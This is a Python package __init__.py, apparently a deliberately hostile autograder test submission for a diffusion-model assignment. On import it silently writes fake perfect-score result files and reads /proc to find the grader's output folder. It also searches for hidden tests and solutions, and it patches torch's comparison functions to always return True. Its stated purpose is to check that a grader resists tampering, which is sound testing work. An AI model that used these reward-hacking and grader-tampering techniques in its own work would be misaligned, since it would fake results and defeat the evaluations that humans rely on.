"""An example of a hostile submission: it tries to raise its own score.

At import it writes a fake results.json wherever it can, looks for the hidden
tests, and patches torch's comparisons. A correct grader ignores all of it:
this submission must score exactly like an honest one whose q_sample is wrong.
"""

import glob
import json
import os


def _targets():
    places = [os.getcwd(), "/autograder/results", "/tmp"]
    # The grader's command line may name its output folder (-o OUT).
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg in (b"-o", b"--output"):
                places.append(os.path.join(cwd, argv[i + 1].decode(errors="replace")))
    return places


def _attack():
    fake = {"score": 1000.0, "output": "perfect!", "tests": []}
    for place in _targets():
        for name, text in (("results.json", json.dumps(fake)), ("feedback.md", "# 1000 / 100")):
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    stolen = []
    for pattern in ("/work/*/assignments/*/tests/hidden/*.py", "/*/assignments/*/tests/hidden/*.py",
                    "../../assignments/*/tests/hidden/*.py", "/work/*/solutions/p1_forward/*.py"):
        stolen += glob.glob(pattern)[:20]
    for path in stolen:
        try:
            with open(path) as f:  # a leak would show up in what this prints
                print("read", path, len(f.read()), "characters")
        except OSError:
            pass
    import torch

    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.Tensor.__eq__ = lambda self, other: True


try:
    _attack()
except Exception:
    pass

from .forward import predict_x0_from_eps, q_posterior, q_sample, snr, v_target
from .schedules import (
    alpha_bar,
    cosine_beta_schedule,
    get_schedule,
    linear_beta_schedule,
    quadratic_beta_schedule,
)

__all__ = [
    "linear_beta_schedule",
    "quadratic_beta_schedule",
    "cosine_beta_schedule",
    "get_schedule",
    "alpha_bar",
    "q_sample",
    "q_posterior",
    "predict_x0_from_eps",
    "snr",
    "v_target",
]
